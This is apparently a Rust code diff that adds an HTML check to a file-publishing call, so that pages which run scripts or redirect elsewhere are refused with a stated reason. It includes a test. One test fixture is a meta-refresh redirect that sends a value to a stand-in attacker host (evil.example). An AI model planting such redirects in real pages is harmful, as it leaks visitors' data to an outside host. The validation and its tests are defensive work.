@@ -6,6 +6,8 @@ use sha2::{Digest, Sha256};
 use super::{Code, Error};
 use crate::limits;
 
+mod html;
+
 /// The function of the contract.
 pub const PUBLISH: &str = "files.publish";
 
@@ -16,7 +18,7 @@ pub enum MediaType {
     Csv,
     /// JSON.
     Json,
-    /// A page, shown without scripts.
+    /// A page: one that runs no script, and leads and sends nowhere else.
     Html,
     /// Plain text.
     Text,
@@ -81,10 +83,18 @@ impl Call {
             let (is, ending) = (media_type.as_str(), media_type.ending());
             return invalid(format!("the file `{name}` is {is}: its name has to end with `{ending}`"));
         }
-        match String::from_utf8(content) {
-            Ok(content) => Ok(Call { name, content }),
-            Err(_) => invalid(format!("the file `{name}` is not UTF-8")),
+        let Ok(content) = String::from_utf8(content) else {
+            return invalid(format!("the file `{name}` is not UTF-8"));
+        };
+        if media_type == MediaType::Html
+            && let Err(wrong) = html::check(&content)
+        {
+            return invalid(format!(
+                "the page `{name}` is not published, as it has {wrong}: {}",
+                html::ALLOWED
+            ));
         }
+        Ok(Call { name, content })
     }
 }
 
@@ -152,6 +162,20 @@ mod tests {
         check("a.html", "text/html; charset=utf-16", b"", false);
         check("a.svg", "image/svg+xml", b"", false);
         check("a.txt", "text/plain", &[0xff], false);
+    }
+
+    #[test]
+    fn a_page_that_leads_elsewhere_is_refused_with_the_reason() {
+        let call = |name: &str, media_type: &str, content: &str| {
+            Call::new(name.to_owned(), media_type, content.as_bytes().to_vec()).map(|_| ())
+        };
+        let away = "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?d=mary\">";
+        let error = call("a.html", "text/html", away).expect_err("it is refused");
+        assert_eq!(error.code, Code::Invalid);
+        for part in ["`a.html`", "0;url=https://evil.example/", "content=\"30\""] {
+            assert!(error.message.contains(part), "no {part} in {}", error.message);
+        }
+        assert_eq!(call("a.txt", "text/plain", away), Ok(()), "only a page is a page");
     }
 
     #[test]
